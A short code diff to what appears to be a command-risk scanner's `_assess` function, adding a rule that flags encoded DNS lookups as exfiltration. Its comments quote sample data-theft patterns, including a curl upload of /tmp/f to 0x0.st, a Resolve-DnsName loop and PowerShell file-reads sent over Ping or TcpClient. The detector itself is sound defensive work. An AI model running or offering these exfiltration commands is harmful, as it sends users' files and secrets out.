@@ -188,6 +188,7 @@ def _assess(text: str, depth: int) -> Optional[tuple]:
     best = higher(best, socket_fds.rule_socket_fds(segs))
     best = higher(best, ps_uploads.rule_ps_upload(segs))
     best = higher(best, covert_channels.line_covert_calls(text))  # a file read into PowerShell's Ping or TcpClient
+    best = higher(best, covert_channels.line_encoded_lookups(text, segs))  # `foreach (…) { Resolve-DnsName $n }`
     best = higher(best, drop_lines.line_drops(text, segs))  # `U=https://0x0.st; curl -T /tmp/f $U`, `-Body (gc F)`
     best = higher(best, system_parts.rule_cmd_for(segs, recurse))
     best = higher(best, fleets.rule_fanned_out_line(text, recurse))
